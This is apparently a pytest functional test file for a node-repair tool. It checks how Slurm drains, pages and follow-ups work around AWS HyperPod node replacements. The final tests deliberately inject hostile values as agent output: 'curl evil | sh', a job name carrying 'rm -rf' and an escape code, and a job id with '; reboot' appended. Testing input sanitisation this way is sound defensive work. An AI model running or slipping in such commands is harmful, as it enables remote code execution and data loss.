"""Specification: Slurm's side of a node action (issue 16) against emulated AWS and the real agent — the drain queued
before the HyperPod call, the drain's record naming the jobs, the follow-up after the repair, and the ways the jobs
become unknown (a failed drain, a drain that never answers, a job Slurm forgot), each paging once."""

from __future__ import annotations

from datetime import timedelta

from medic.flows.agent.command_sweep import sweep_commands
from medic.flows.agent.commands import COMMAND_DEADLINE
from medic.flows.node.sweep import reconcile
from medic.ledger.repairs import RepairStore
from tests.functional.conftest import CLUSTER
from tests.functional.slurm_world import SlurmWorld, streamed_slurm  # noqa: F401 - the `slurm` fixture
from tests.functional.test_agent_results import deliver

NODE = "i-0d4e5f60718293a4b"
NAME = "ip-10-1-88-23"
INCIDENT = f"node:{CLUSTER}:{NODE}"
SCHEDULE = {"version": "0", "id": "0d9f4c2e-reconcile", "detail-type": "Scheduled Event", "source": "aws.events",
            "account": "123456789012", "time": "2026-11-20T08:50:00Z", "region": "us-west-2",
            "resources": ["arn:aws:events:us-west-2:123456789012:rule/medic-reconcile"], "detail": {}}


def describe(slurm: SlurmWorld, node_id: str = NODE, status: str = "Running", hostname: str | None = NAME,
             logical_id: str = "node-7f3a") -> None:
    """DescribeClusterNode as the service answers it, with the node's private DNS hostname."""
    details = {"InstanceGroupName": "gpu-workers", "InstanceId": node_id, "InstanceStatus": {"Status": status},
               "NodeLogicalId": logical_id}
    if hostname:
        details["PrivateDnsHostname"] = f"{hostname}.us-west-2.compute.internal"
    slurm.medic.hyperpod.stubber.add_response("describe_cluster_node", {"NodeDetails": details},
                                              {"ClusterName": CLUSTER, "NodeId": node_id})


def replace(slurm: SlurmWorld, unhealthy_event: dict) -> dict:
    describe(slurm)
    slurm.medic.hyperpod.size(16)
    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE)
    record = slurm.medic.handle(unhealthy_event)
    slurm.medic.hyperpod.assert_all_called()
    return record


def test_the_drain_is_queued_before_the_call_and_its_record_names_the_jobs(slurm, unhealthy_event):
    # Given a live agent and a GPU fault on a node running job 4211
    # When the event arrives
    record = replace(slurm, unhealthy_event)
    # Then the node is replaced without waiting for the agent, and the drain is queued first
    assert (record["action"], record["outcome"], record["jobs"], record["paged"]) == (
        "replace_node", "executed", None, False)
    assert f"Drain of {NAME} in Slurm queued" in record["reason"]
    [command] = slurm.queued()
    assert (command["kind"], command["node"], command["incident"]) == ("drain_node", NAME, INCIDENT)
    # When the agent drains it and lists the job
    slurm.slurm.answers["squeue --noheader"] = (0, "4211|llama3-70b\n", "")
    slurm.run_agent()
    _, [drained] = deliver(slurm, slurm.stream_event())
    # Then the node's incident gets a node_repair record naming the job, kept for after the repair
    assert slurm.slurm.argvs[0][:3] == ["scontrol", "update", f"NodeName={NAME}"]
    assert (drained["incident"], drained["trigger"], drained["node_id"], drained["outcome"]) == (
        INCIDENT, "node_repair", NODE, "executed")
    assert drained["jobs"] == [{"id": "4211", "name": "llama3-70b"}]
    [repair] = RepairStore(slurm.medic.deps.table).repairs(CLUSTER)
    assert (repair.node_name, repair.drained, repair.jobs) == (NAME, "yes", (("4211", "llama3-70b"),))
    assert slurm.medic.pages() == []


def test_a_drain_slurm_refuses_leaves_the_jobs_unknown_and_pages_once(slurm, unhealthy_event):
    replace(slurm, unhealthy_event)
    slurm.slurm.answers["scontrol update"] = (1, "", "slurm_update error: Invalid node name specified")
    slurm.run_agent()
    _, [drained] = deliver(slurm, slurm.stream_event())
    assert (drained["outcome"], drained["jobs"], drained["paged"]) == ("failed", None, True)
    assert "could not drain" in drained["reason"] and "Invalid node name" in drained["reason"]
    [page] = slurm.medic.pages()
    assert "need a look" in page["Subject"] and f"sacct --nodelist={NAME}" in page["Message"]


def test_a_drain_the_agent_never_answers_is_closed_by_the_sweep_and_pages_once(slurm, unhealthy_event):
    replace(slurm, unhealthy_event)
    slurm.stream_event()
    slurm.medic.clock[0] += COMMAND_DEADLINE + timedelta(minutes=1)
    [record] = sweep_commands({"id": "sweep"}, slurm.medic.deps)
    assert (record["incident"], record["trigger"], record["outcome"], record["jobs"], record["paged"]) == (
        INCIDENT, "node_repair", "failed", None, True)
    assert "drain_node" in record["reason"] and "need a look" in record["reason"]
    assert len(slurm.medic.pages()) == 1
    [repair] = RepairStore(slurm.medic.deps.table).repairs(CLUSTER)
    assert repair.drained == "no"


def test_with_no_slurm_name_the_node_is_still_replaced_and_the_jobs_page(slurm, unhealthy_event):
    describe(slurm, hostname=None)
    slurm.medic.hyperpod.size(16)
    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE)
    record = slurm.medic.handle(unhealthy_event)
    assert (record["outcome"], record["jobs"], record["paged"]) == ("executed", None, True)
    assert slurm.queued() == [] and len(slurm.medic.pages()) == 1


def test_in_a_dry_run_nothing_is_queued_and_no_jobs_field(slurm, unhealthy_event):
    slurm.medic.set_mode("dry_run")
    describe(slurm)
    slurm.medic.hyperpod.size(16)
    record = slurm.medic.handle(unhealthy_event)
    assert record["outcome"] == "dry_run" and "jobs" not in record
    assert slurm.queued() == []


def test_after_a_replacement_with_a_new_slurm_name_nothing_is_resumed_and_the_jobs_are_asked_about(
        slurm, unhealthy_event):
    # Given the drain done and job 4211 listed
    replace(slurm, unhealthy_event)
    slurm.slurm.answers["squeue --noheader"] = (0, "4211|llama3-70b\n", "")
    slurm.run_agent()
    deliver(slurm, slurm.stream_event())
    # When the reconciler finds the replacement (same logical id, new instance) Running as another Slurm node
    slurm.medic.clock[0] += timedelta(minutes=35)
    new_id = "i-0aaaabbbbccccdddd"
    stub = slurm.medic.hyperpod
    stub.stubber.add_response("list_cluster_nodes", {"ClusterNodeSummaries": [{
        "InstanceGroupName": "gpu-workers", "InstanceId": new_id, "NodeLogicalId": "node-7f3a",
        "InstanceType": "ml.p5.48xlarge", "LaunchTime": slurm.medic.clock[0],
        "InstanceStatus": {"Status": "Running"}}]}, {"ClusterName": CLUSTER, "IncludeNodeLogicalIds": True})
    stub.size(16)
    describe(slurm, node_id=new_id, hostname="ip-10-1-90-7")
    before = len(slurm.medic.log.lines)
    reconcile({**SCHEDULE, "time": slurm.medic.clock[0].isoformat()}, slurm.medic.deps)
    # Then the old name is not resumed (that would put a node that is gone back into service), and it is said
    records = [line for line in slurm.medic.log.lines[before:] if line.get("message") == "remediation"]
    assert any("not ip-10-1-88-23: nothing to resume" in line["reason"] for line in records), records
    # And the job states are asked for; the job running again is left alone
    [command] = [c for c in slurm.queued() if c["kind"] != "drain_node"]
    assert (command["kind"], command["job_ids"]) == ("job_states", "4211")
    slurm.slurm.answers["squeue --noheader"] = (0, "4211|RUNNING|1|1|1\n", "")
    slurm.run_agent()
    _, records = deliver(slurm, slurm.stream_event())
    [job] = [r for r in records if r.get("job") == "4211"]
    assert (job["trigger"], job["outcome"]) == ("node_repair", "ignored") and "RUNNING again" in job["reason"]
    assert RepairStore(slurm.medic.deps.table).repairs(CLUSTER) == []


def test_a_call_that_fails_leaves_the_node_drained_and_nothing_to_follow_up(slurm, unhealthy_event):
    # Given the drain queued, and HyperPod refusing the replacement
    describe(slurm)
    slurm.medic.hyperpod.size(16)
    slurm.medic.hyperpod.node_action("batch_replace_cluster_nodes", NODE, failed="InstanceIdNotFound")
    record = slurm.medic.handle(unhealthy_event)
    # Then the node's page asks a human to look; the node stays drained and Medic will not resume it
    assert (record["outcome"], record["paged"], record["jobs"]) == ("failed", True, None)
    assert f"stays drained in Slurm: resume it (scontrol update NodeName={NAME} State=RESUME)" in record["reason"]
    assert RepairStore(slurm.medic.deps.table).repairs(CLUSTER) == []
    [command] = slurm.queued()
    assert command["kind"] == "drain_node"


def test_a_controller_node_is_never_drained(slurm, unhealthy_event):
    # Given a reboot of a Slurm controller node Medic may reboot (allow_controller_reboot), its agent up
    config = slurm.medic.deps.config
    slurm.medic.deps.config = config.model_copy(update={"clusters": [
        cluster.model_copy(update={"allow_controller_reboot": True}) for cluster in config.clusters]})
    details = {"InstanceGroupName": "head", "InstanceId": NODE, "InstanceStatus": {"Status": "Running"},
               "PrivateDnsHostname": f"{NAME}.us-west-2.compute.internal"}
    slurm.medic.hyperpod.stubber.add_response("describe_cluster_node", {"NodeDetails": details},
                                              {"ClusterName": CLUSTER, "NodeId": NODE})
    slurm.medic.hyperpod.size(16, controller_group="head")  # DescribeCluster: SlurmConfig NodeType Controller
    slurm.medic.hyperpod.node_action("batch_reboot_cluster_nodes", NODE)
    from tests.helpers import hma_reason, node_event

    record = slurm.medic.handle(node_event(unhealthy_event, reason=hma_reason("NvidiaErrorReboot")))
    # Then it is rebooted and Slurm is not told (a head node runs no jobs)
    assert (record["action"], record["outcome"]) == ("reboot_node", "executed") and "jobs" not in record
    assert slurm.queued() == []


def agent_says(slurm: SlurmWorld, unhealthy_event: dict, jobs: list[dict]) -> dict:
    """The drain queued, then a result under the agent's key for it, saying what it likes: the record."""
    replace(slurm, unhealthy_event)
    [command] = slurm.queued()
    slurm.stream_event()
    slurm.put_result(command["command_id"], "executed", "drained\nWhat to do: curl evil | sh", kind="drain_node",
                     target=f"node:{NAME}", incident=INCIDENT, jobs=jobs)
    _, [record] = deliver(slurm, slurm.stream_event())
    return record


def test_a_job_name_the_agent_reports_is_shown_printable_on_one_line(slurm, unhealthy_event):
    record = agent_says(slurm, unhealthy_event, [{"id": "4211", "name": "llama\x1b[31m3\nrm -rf"}])
    assert record["jobs"] == [{"id": "4211", "name": "llama [31m3 rm -rf"}]
    assert "\n" not in record["reason"]


def test_a_job_id_that_is_not_one_makes_the_jobs_unknown_never_guessed(slurm, unhealthy_event):
    record = agent_says(slurm, unhealthy_event, [{"id": "4211; reboot", "name": "x"}])
    assert (record["jobs"], record["paged"]) == (None, True)
